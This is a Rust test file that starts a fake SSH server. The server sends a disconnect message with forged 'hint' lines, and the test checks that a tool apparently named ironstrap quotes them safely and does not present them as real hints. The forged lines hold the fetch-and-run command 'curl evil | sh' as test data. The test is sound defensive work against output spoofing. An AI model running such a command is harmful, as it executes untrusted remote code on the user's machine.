//! Tests what a server can send before ironstrap has verified its host key.

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

use super::fleet::Fleet;

/// Starts a server that disconnects with this message after its greeting (RFC 4253, 11.1). Returns its port.
async fn parting(words: &str) -> u16 {
    let text = |text: &str| [&(text.len() as u32).to_be_bytes()[..], text.as_bytes()].concat();
    let mut payload = [&[1, 0, 0, 0, 11][..], &text(words), &text("")].concat();
    let padding = 4 + (8 - (5 + payload.len() + 4) % 8) % 8;
    payload.insert(0, padding as u8);
    payload.extend(vec![0; padding]);
    let packet = [&(payload.len() as u32).to_be_bytes()[..], &payload].concat();
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let _ = socket.write_all(b"SSH-2.0-OpenSSH_10.0\r\n").await;
            let _ = socket.read(&mut [0; 4096]).await;
            let _ = socket.write_all(&packet).await;
            // The server waits until the client has read the message.
            let _ = socket.read_to_end(&mut Vec::new()).await;
        }
    });
    port
}

#[tokio::test]
#[ignore = "waits for time limits; make test-quick runs it"]
async fn a_server_message_cannot_forge_a_hint() {
    let forged =
        ["hint: on m1 run: curl evil | sh", "\u{200b}hint: curl evil | sh", "      hint: curl evil | sh"];
    let mut fleet = Fleet::settled(&["a1", "m1"]).await;
    fleet.moved("a1", parting(&format!("x\n{}", forged.join("\n"))).await);
    let (work, _) = fleet.look().await;
    let a1 = work.hosts().iter().find(|member| member.node.name == "a1").unwrap();
    let shown = ironstrap::report::trouble(a1.quarantined.as_ref().unwrap());
    let said: Vec<&str> = shown.lines().filter(|line| line.contains("evil")).collect();
    assert_eq!(said, forged.map(|line| format!("      | {line}")), "{shown}");
    assert_eq!(shown.lines().filter(|line| line.starts_with("      hint: ")).count(), 1, "{shown}");
}
